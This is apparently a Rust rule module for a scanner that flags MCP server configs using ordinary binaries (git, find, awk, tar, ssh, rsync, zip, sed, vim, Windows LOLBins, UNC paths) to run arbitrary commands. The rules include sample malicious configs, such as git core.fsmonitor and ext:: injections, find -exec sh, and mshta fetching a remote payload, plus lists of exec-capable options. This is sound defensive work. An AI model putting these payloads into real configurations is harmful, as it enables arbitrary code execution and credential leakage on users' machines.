//! MW4xx — ordinary binaries with exec primitives: `git -c core.sshCommand`, `find -exec`,
//! `awk system()`, `tar --checkpoint-action`, `ssh -o ProxyCommand`, Windows LOLBins, …

use warden_core::{RuleInfo, Severity};

use super::refs::*;
use crate::engine::{self, Arg, Ctx, Frame, show, show_argv};
use crate::program::{self, Program};
use crate::shell::{self, Dialect};

const FAMILY: &str = "binary-exec";

pub static GIT_EXEC: RuleInfo = RuleInfo {
    id: "MW401",
    name: "git-config-exec",
    family: FAMILY,
    severity: Severity::Critical,
    title: "git is configured to run a command",
    what: "Detects `git -c` with keys that name a program (`core.sshCommand`, `core.pager`, \
           `core.fsmonitor`, `core.editor`, `core.hooksPath`, `alias.x=!…`, `diff.external`, \
           `credential.helper=!…`, filters, `protocol.ext.allow`), `--upload-pack`/ \
           `--receive-pack`/`--exec`, and `ext::` remote URLs.",
    why: "Each of these makes git start a program of the config's choosing, while the launch \
          line looks like an innocent `git status`.",
    fix: "Remove the `-c` settings and the `ext::` URL; git servers take a repository path, \
          not git configuration.",
    bad: &[
        r#"{"command":"git","args":["-c","core.fsmonitor=touch /tmp/pwn; false","status"]}"#,
        r#"{"command":"git","args":["ls-remote","ext::sh -c touch% /tmp/pwn"]}"#,
    ],
    good: &[r#"{"command":"git","args":["-c","color.ui=never","status"]}"#],
    references: &[CWE_88, GTFOBINS],
};

pub static FIND_EXEC: RuleInfo = RuleInfo {
    id: "MW402",
    name: "find-exec",
    family: FAMILY,
    severity: Severity::Critical,
    title: "find runs a command",
    what: "Detects `find` with `-exec`, `-execdir`, `-ok`, `-okdir`; the command they run is \
           analysed too.",
    why: "`find . -exec sh -c …` runs any command while the launch line starts with a \
          harmless-looking utility.",
    fix: "Remove the entry; `find` is no MCP server.",
    bad: &[
        r#"{"command":"find","args":[".","-maxdepth","0","-exec","sh","-c","id > /tmp/p",";"]}"#,
    ],
    good: &[r#"{"command":"uvx","args":["mcp-server-fetch"]}"#],
    references: &[GTFOBINS],
};

pub static AWK_EXEC: RuleInfo = RuleInfo {
    id: "MW403",
    name: "awk-exec",
    family: FAMILY,
    severity: Severity::Critical,
    title: "An awk program runs commands",
    what: "Detects awk programs (`awk`, `gawk`, `mawk`, `nawk`) calling `system()`, reading \
           from a command with `cmd | getline`, or printing into a command.",
    why: "awk's `system()` is a shell; the program text is the payload.",
    fix: "Remove the entry; awk is no MCP server.",
    bad: &[r#"{"command":"awk","args":["BEGIN{system(\"id > /tmp/p\")}"]}"#],
    good: &[r#"{"command":"node","args":["server.js"]}"#],
    references: &[GTFOBINS],
};

pub static TAR_EXEC: RuleInfo = RuleInfo {
    id: "MW404",
    name: "tar-exec",
    family: FAMILY,
    severity: Severity::Critical,
    title: "tar is told to run a command",
    what: "Detects `tar --checkpoint-action=exec=…`, `--to-command`, `-I`/ \
           `--use-compress-program`, `--rsh-command`, `--info-script`/`--new-volume-script`.",
    why: "Each option makes tar start a program of the config's choosing.",
    fix: "Remove the entry; tar is no MCP server.",
    bad: &[
        r#"{"command":"tar","args":["-cf","/dev/null","/etc/hostname","--checkpoint=1","--checkpoint-action=exec=id"]}"#,
    ],
    good: &[r#"{"command":"node","args":["server.js"]}"#],
    references: &[GTFOBINS],
};

pub static SSH_COMMAND: RuleInfo = RuleInfo {
    id: "MW405",
    name: "ssh-command-option",
    family: FAMILY,
    severity: Severity::Critical,
    title: "ssh runs a local command",
    what: "Detects `ssh`/`scp`/`sftp` with `-o ProxyCommand=…`, `LocalCommand`, \
           `PermitLocalCommand`, `KnownHostsCommand`, `Match exec`, and `scp -S program`.",
    why: "These options run a local command before or after connecting (GHSA-p4h8-56qp-hpgv \
          moved this primitive into MCP configs).",
    fix: "Connect with plain options; use `ProxyJump` for jump hosts.",
    bad: &[r#"{"command":"ssh","args":["-o","ProxyCommand=sh -c 'id > /tmp/p'","x"]}"#],
    good: &[
        r#"{"command":"ssh","args":["-o","ProxyJump=bastion.example.com","mcp@host.example.com","mcp-server"]}"#,
    ],
    references: &[GTFOBINS, CWE_88],
};

pub static RSYNC_SHELL: RuleInfo = RuleInfo {
    id: "MW406",
    name: "rsync-remote-shell",
    family: FAMILY,
    severity: Severity::Critical,
    title: "rsync runs a custom remote shell",
    what: "Detects `rsync -e`/`--rsh` whose program is not `ssh`, and `--rsync-path` with \
           shell syntax.",
    why: "rsync starts the `-e` program locally; anything other than ssh is a command run on \
          the config's behalf.",
    fix: "Remove the entry; rsync is no MCP server.",
    bad: &[r#"{"command":"rsync","args":["-e","sh -c 'id > /tmp/p'","x:","."]}"#],
    good: &[r#"{"command":"node","args":["server.js"]}"#],
    references: &[GTFOBINS],
};

pub static ZIP_EXEC: RuleInfo = RuleInfo {
    id: "MW407",
    name: "zip-unzip-command",
    family: FAMILY,
    severity: Severity::Critical,
    title: "zip runs a test command",
    what: "Detects `zip -TT`/`--unzip-command`.",
    why: "zip runs the named command to \"test\" the archive: a shell command in disguise.",
    fix: "Remove the entry; zip is no MCP server.",
    bad: &[r#"{"command":"zip","args":["/tmp/x.zip","/etc/hostname","-T","-TT","sh -c id"]}"#],
    good: &[r#"{"command":"node","args":["server.js"]}"#],
    references: &[GTFOBINS],
};

pub static SED_EXEC: RuleInfo = RuleInfo {
    id: "MW408",
    name: "sed-exec",
    family: FAMILY,
    severity: Severity::Critical,
    title: "A sed script runs commands",
    what: "Detects GNU sed's `e` command and the `e` flag of `s///e`.",
    why: "Both hand text to a shell.",
    fix: "Remove the entry; sed is no MCP server.",
    bad: &[r#"{"command":"sed","args":["-n","1e id","/etc/hostname"]}"#],
    good: &[r#"{"command":"node","args":["server.js"]}"#],
    references: &[GTFOBINS],
};

pub static EDITOR_EXEC: RuleInfo = RuleInfo {
    id: "MW409",
    name: "editor-exec",
    family: FAMILY,
    severity: Severity::Critical,
    title: "An editor runs commands",
    what: "Detects `vim`/`vi`/`nvim`/`ex` with `-c`, `+cmd` or `--cmd` that shell out (`!`, \
           `system()`, `:terminal`) or run Python/Lua/Perl/Ruby.",
    why: "Editor command options are a full shell.",
    fix: "Remove the entry; an editor is no MCP server.",
    bad: &[r#"{"command":"vim","args":["-c",":!id > /tmp/p","-c","q"]}"#],
    good: &[r#"{"command":"node","args":["server.js"]}"#],
    references: &[GTFOBINS],
};

pub static LOLBIN: RuleInfo = RuleInfo {
    id: "MW410",
    name: "windows-lolbin",
    family: FAMILY,
    severity: Severity::Critical,
    title: "A Windows system binary that runs or fetches code",
    what: "Detects `mshta`, `regsvr32`, `rundll32`, `certutil`, `wscript`, `cscript`, \
           `bitsadmin`, `msiexec`, `installutil`, `msbuild`, `forfiles`, `schtasks`, `wmic` and \
           other living-off-the-land binaries.",
    why: "They are signed Windows components that download or execute arbitrary code, used to \
          slip past application allowlists; none is an MCP server.",
    fix: "Remove the entry.",
    bad: &[r#"{"command":"mshta.exe","args":["https://example.com/payload.hta"]}"#],
    good: &[r#"{"command":"npx.cmd","args":["-y","@modelcontextprotocol/server-memory"]}"#],
    references: &[LOLBAS],
};

pub static UNC_PATH: RuleInfo = RuleInfo {
    id: "MW411",
    name: "network-share-program",
    family: FAMILY,
    severity: Severity::Critical,
    title: "The program or script is on a network share",
    what: "Detects programs, scripts and preloads named by a UNC path (`\\\\host\\share\\x`), \
           including WebDAV (`\\\\host@SSL\\…`).",
    why: "The code is fetched from another machine at every start, and merely opening the path \
          sends the user's NTLM credentials to that host.",
    fix: "Install the server locally and launch the local copy.",
    bad: &[r#"{"command":"\\\\203.0.113.10\\share\\server.exe","args":[]}"#],
    good: &[r#"{"command":"C:\\mcp\\server.exe","args":[]}"#],
    references: &[CWE_829],
};

fn emit(cx: &mut Ctx, rule: &'static RuleInfo, a: &Arg, frame: &Frame, msg: String) {
    cx.emit(rule, Severity::Critical, &a.field, frame, msg);
}

/// Programs with exec primitives. Returns whether the program was one of them.
pub fn check(cx: &mut Ctx, prog: &Program, argv: &[Arg], frame: &Frame) -> bool {
    let b = prog.base.as_str();
    if let Some((_, what)) = program::LOLBINS.iter().find(|(n, _)| *n == b) {
        emit(
            cx,
            &LOLBIN,
            &argv[0],
            frame,
            format!(
                "`{}` is a Windows system binary that {what}; here it runs `{}`.",
                prog.base,
                show_argv(argv)
            ),
        );
        return true;
    }
    match b {
        "git" => git(cx, argv, frame),
        "find" | "gfind" => find(cx, argv, frame),
        "awk" | "gawk" | "mawk" | "nawk" => awk(cx, argv, frame),
        "tar" | "gtar" | "bsdtar" => tar(cx, argv, frame),
        "ssh" | "scp" | "sftp" | "autossh" => ssh(cx, prog, argv, frame),
        "rsync" => rsync(cx, argv, frame),
        "zip" => zip(cx, argv, frame),
        "sed" | "gsed" => sed(cx, argv, frame),
        "vim" | "vi" | "nvim" | "ex" | "view" | "gvim" | "vimdiff" | "rvim" => {
            editor(cx, prog, argv, frame)
        }
        _ => return false,
    }
    true
}

const GIT_EXEC_KEYS: &[&str] = &[
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.fsmonitor",
    "core.hookspath",
    "core.askpass",
    "core.gitproxy",
    "sequence.editor",
    "diff.external",
    "gpg.program",
    "gpg.ssh.program",
    "gpg.x509.program",
    "uploadpack.packobjectshook",
    "credential.helper",
    "protocol.ext.allow",
    "protocol.allow",
    "core.worktree",
    "include.path",
    "includeif",
];

fn git_key_execs(key: &str, value: &str) -> bool {
    let k = key.to_ascii_lowercase();
    if GIT_EXEC_KEYS.iter().any(|g| k == *g || k.starts_with(g)) {
        let helper_plain = k == "credential.helper"
            && !value.trim_start().starts_with('!')
            && !value.contains('/');
        let proto_off = k.starts_with("protocol.")
            && !value.eq_ignore_ascii_case("always")
            && !value.eq_ignore_ascii_case("user");
        return !helper_plain && !proto_off;
    }
    (k.starts_with("alias.") && value.trim_start().starts_with('!'))
        || (k.starts_with("pager."))
        || (k.starts_with("diff.") && (k.ends_with(".textconv") || k.ends_with(".command")))
        || (k.starts_with("merge.") && k.ends_with(".driver"))
        || (k.starts_with("filter.")
            && (k.ends_with(".clean") || k.ends_with(".smudge") || k.ends_with(".process")))
        || (k.starts_with("remote.")
            && (k.ends_with(".uploadpack") || k.ends_with(".receivepack") || k.ends_with(".proxy")))
}

fn git(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    for (i, a) in argv.iter().enumerate().skip(1) {
        let t = a.text.as_str();
        let kv = if t == "-c" {
            argv.get(i + 1).map(|v| (v.text.as_str(), v))
        } else {
            t.strip_prefix("-c")
                .filter(|r| r.contains('=') && !r.starts_with('-'))
                .map(|r| (r, a))
        };
        if let Some((kv, at)) = kv {
            let (k, v) = kv.split_once('=').unwrap_or((kv, ""));
            if git_key_execs(k, v) {
                emit(
                    cx,
                    &GIT_EXEC,
                    at,
                    frame,
                    format!(
                        "`git -c {}` makes git run a command of the config's choosing (`{}`).",
                        show(k),
                        show(v)
                    ),
                );
            }
        }
        if let Some(v) = t.strip_prefix("--config-env=") {
            let k = v.split('=').next().unwrap_or(v);
            if git_key_execs(k, "!") {
                emit(
                    cx,
                    &GIT_EXEC,
                    a,
                    frame,
                    format!(
                        "`git --config-env={}` takes a command-running git setting from the environment.",
                        show(v)
                    ),
                );
            }
        }
        for p in ["--upload-pack", "--receive-pack", "--exec", "-u"] {
            if t == p && argv.len() > i + 1 && p != "-u" || t.starts_with(&format!("{p}=")) {
                emit(
                    cx,
                    &GIT_EXEC,
                    a,
                    frame,
                    format!(
                        "`git {}` names the program git runs for the remote side.",
                        show(t)
                    ),
                );
            }
        }
        if t.starts_with("ext::") || t.starts_with("fd::") {
            emit(
                cx,
                &GIT_EXEC,
                a,
                frame,
                format!(
                    "The remote `{}` uses git's `ext::` transport, which runs its text as a command.",
                    show(t)
                ),
            );
        }
    }
}

fn find(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    let mut i = 1;
    while i < argv.len() {
        let t = argv[i].text.as_str();
        if matches!(t, "-exec" | "-execdir" | "-ok" | "-okdir") {
            let end = argv[i + 1..]
                .iter()
                .position(|a| a.text == ";" || a.text == "+" || a.text == "\\;")
                .map(|p| i + 1 + p)
                .unwrap_or(argv.len());
            let sub: Vec<Arg> = argv[i + 1..end].to_vec();
            emit(
                cx,
                &FIND_EXEC,
                &argv[i],
                frame,
                format!("`find {t}` runs `{}` for each file found.", show_argv(&sub)),
            );
            if !sub.is_empty() {
                engine::visit(cx, sub, &frame.push(format!("find {t}")));
            }
            i = end;
        }
        i += 1;
    }
}

fn awk(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    let mut i = 1;
    let mut program: Option<&Arg> = None;
    while i < argv.len() {
        let t = argv[i].text.as_str();
        if matches!(t, "-f" | "--file" | "-E" | "--exec") {
            if let Some(f) = argv.get(i + 1) {
                crate::rules::location::script_location(cx, f, frame, "awk program");
            }
            i += 2;
            continue;
        }
        if matches!(t, "-e" | "--source") {
            program = argv.get(i + 1);
            break;
        }
        if matches!(t, "-v" | "-F" | "--assign" | "--field-separator") {
            i += 2;
            continue;
        }
        if t.starts_with('-') {
            i += 1;
            continue;
        }
        program = Some(&argv[i]);
        break;
    }
    if let Some(p) = program {
        let compact: String = p.text.chars().filter(|c| !c.is_whitespace()).collect();
        if compact.contains("system(")
            || compact.contains("|getline")
            || compact.contains("|&")
            || compact.contains("|\"")
        {
            emit(
                cx,
                &AWK_EXEC,
                p,
                frame,
                format!("The awk program `{}` runs shell commands.", show(&p.text)),
            );
        }
    }
}

fn tar(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    for a in argv.iter().skip(1) {
        let t = a.text.as_str();
        let hit = t.starts_with("--checkpoint-action") && t.contains("exec")
            || t.starts_with("--to-command")
            || t == "-I"
            || (t.starts_with("-I") && t.len() > 2 && !t.starts_with("--"))
            || t.starts_with("--use-compress-program")
            || t.starts_with("--rsh-command")
            || t.starts_with("--info-script")
            || t.starts_with("--new-volume-script")
            || t == "-F";
        if hit {
            emit(
                cx,
                &TAR_EXEC,
                a,
                frame,
                format!("`tar {}` makes tar run a command.", show(t)),
            );
        }
    }
}

fn ssh(cx: &mut Ctx, prog: &Program, argv: &[Arg], frame: &Frame) {
    for (i, a) in argv.iter().enumerate().skip(1) {
        let t = a.text.as_str();
        let opt = if t == "-o" {
            argv.get(i + 1).map(|v| (v.text.as_str(), v))
        } else {
            t.strip_prefix("-o")
                .filter(|r| !r.is_empty())
                .map(|r| (r, a))
        };
        if let Some((o, at)) = opt {
            let key = o.split(['=', ' ']).next().unwrap_or(o).to_ascii_lowercase();
            if matches!(
                key.as_str(),
                "proxycommand"
                    | "localcommand"
                    | "permitlocalcommand"
                    | "knownhostscommand"
                    | "match"
                    | "remotecommand"
            ) && !o.to_ascii_lowercase().ends_with("=no")
            {
                emit(
                    cx,
                    &SSH_COMMAND,
                    at,
                    frame,
                    format!("`{} -o {}` runs a local command.", prog.base, show(o)),
                );
            }
        }
        if prog.base == "scp"
            && t == "-S"
            && let Some(v) = argv.get(i + 1)
        {
            emit(
                cx,
                &SSH_COMMAND,
                v,
                frame,
                format!(
                    "`scp -S {}` uses that program instead of ssh.",
                    show(&v.text)
                ),
            );
        }
        if t == "-F"
            && let Some(v) = argv.get(i + 1)
        {
            crate::rules::location::script_location(cx, v, frame, "ssh config");
        }
    }
}

fn rsync(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    for (i, a) in argv.iter().enumerate().skip(1) {
        let t = a.text.as_str();
        let v = if t == "-e" || t == "--rsh" {
            argv.get(i + 1).map(|v| (v.text.as_str(), v))
        } else {
            t.strip_prefix("--rsh=")
                .or_else(|| t.strip_prefix("-e").filter(|r| !r.is_empty()))
                .map(|r| (r, a))
        };
        if let Some((v, at)) = v {
            let first = v.split_whitespace().next().unwrap_or("");
            if !Program::parse(first).is(&["ssh"]) || engine::has_shell_meta(v) {
                emit(
                    cx,
                    &RSYNC_SHELL,
                    at,
                    frame,
                    format!("`rsync -e {}` runs that command as its transport.", show(v)),
                );
            }
        }
        if let Some(v) = t.strip_prefix("--rsync-path=")
            && engine::has_shell_meta(v)
        {
            emit(
                cx,
                &RSYNC_SHELL,
                a,
                frame,
                format!("`--rsync-path={}` contains shell syntax.", show(v)),
            );
        }
    }
}

fn zip(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    for (i, a) in argv.iter().enumerate().skip(1) {
        let t = a.text.as_str();
        if t == "-TT"
            || t == "--unzip-command"
            || t.starts_with("-TT=")
            || t.starts_with("--unzip-command=")
        {
            let v = t
                .split_once('=')
                .map(|x| x.1.to_string())
                .or_else(|| argv.get(i + 1).map(|v| v.text.clone()))
                .unwrap_or_default();
            emit(
                cx,
                &ZIP_EXEC,
                a,
                frame,
                format!("`zip {t}` runs `{}` to test the archive.", show(&v)),
            );
        }
    }
}

fn sed_script_execs(s: &str) -> bool {
    for part in s.split([';', '\n']) {
        let p = part.trim();
        let body = p.trim_start_matches(|c: char| {
            c.is_ascii_digit() || c == '$' || c == ',' || c == '!' || c.is_whitespace()
        });
        if body == "e" || body.starts_with("e ") {
            return true;
        }
        // s/a/b/e
        if let Some(rest) = body.strip_prefix('s') {
            let mut chars = rest.chars();
            if let Some(d) = chars.next() {
                if d.is_alphanumeric() || d.is_whitespace() {
                    continue;
                }
                let mut count = 0;
                let mut esc = false;
                let mut flags = String::new();
                for c in chars {
                    if count >= 2 {
                        flags.push(c);
                        continue;
                    }
                    if esc {
                        esc = false;
                    } else if c == '\\' {
                        esc = true;
                    } else if c == d {
                        count += 1;
                    }
                }
                if count >= 2
                    && flags
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric())
                        .any(|c| c == 'e')
                {
                    return true;
                }
            }
        }
    }
    false
}

fn sed(cx: &mut Ctx, argv: &[Arg], frame: &Frame) {
    let mut i = 1;
    let mut scripts: Vec<&Arg> = Vec::new();
    while i < argv.len() {
        let t = argv[i].text.as_str();
        if t == "-e" || t == "--expression" {
            if let Some(s) = argv.get(i + 1) {
                scripts.push(s);
            }
            i += 2;
            continue;
        }
        if t.starts_with('-') {
            i += 1;
            continue;
        }
        if scripts.is_empty() {
            scripts.push(&argv[i]);
        }
        break;
    }
    for s in scripts {
        if sed_script_execs(&s.text) {
            emit(
                cx,
                &SED_EXEC,
                s,
                frame,
                format!(
                    "The sed script `{}` uses the `e` command, which runs shell commands.",
                    show(&s.text)
                ),
            );
        }
    }
}

fn editor(cx: &mut Ctx, prog: &Program, argv: &[Arg], frame: &Frame) {
    for (i, a) in argv.iter().enumerate().skip(1) {
        let t = a.text.as_str();
        let cmd = if t == "-c" || t == "--cmd" {
            argv.get(i + 1).map(|v| (v.text.as_str(), v))
        } else {
            t.strip_prefix('+').map(|r| (r, a))
        };
        if let Some((c, at)) = cmd {
            let l = c.to_ascii_lowercase();
            if l.contains('!')
                || l.contains("system(")
                || l.contains("term")
                || l.contains("py")
                || l.contains("lua")
                || l.contains("perl")
                || l.contains("ruby")
                || l.contains("call ")
            {
                emit(
                    cx,
                    &EDITOR_EXEC,
                    at,
                    frame,
                    format!(
                        "`{} -c {}` runs a shell command or script code from the editor.",
                        prog.base,
                        show(c)
                    ),
                );
            }
        }
    }
}

/// MW411 for a word that names a network share.
pub fn unc(cx: &mut Ctx, a: &Arg, frame: &Frame, what: &str) -> bool {
    if program::path_kind(&a.text) == program::PathKind::Unc {
        emit(
            cx,
            &UNC_PATH,
            a,
            frame,
            format!(
                "The {what} `{}` is on a network share: it is fetched from another machine at every start, and opening it sends the user's Windows credentials there.",
                show(&a.text)
            ),
        );
        return true;
    }
    false
}

#[allow(dead_code)]
fn parse_cmd(line: &str) -> shell::Script {
    shell::parse(line, Dialect::Cmd)
}
